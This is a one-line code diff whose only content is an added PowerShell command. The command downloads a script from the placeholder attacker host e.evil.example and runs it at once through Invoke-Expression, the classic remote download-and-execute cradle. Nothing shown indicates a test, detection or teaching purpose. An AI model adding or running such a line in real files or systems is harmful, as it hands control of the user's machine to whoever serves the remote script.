@@ -1,0 +1,1 @@
+iex (iwr https://e.evil.example/a.ps1 -UseBasicParsing).Content
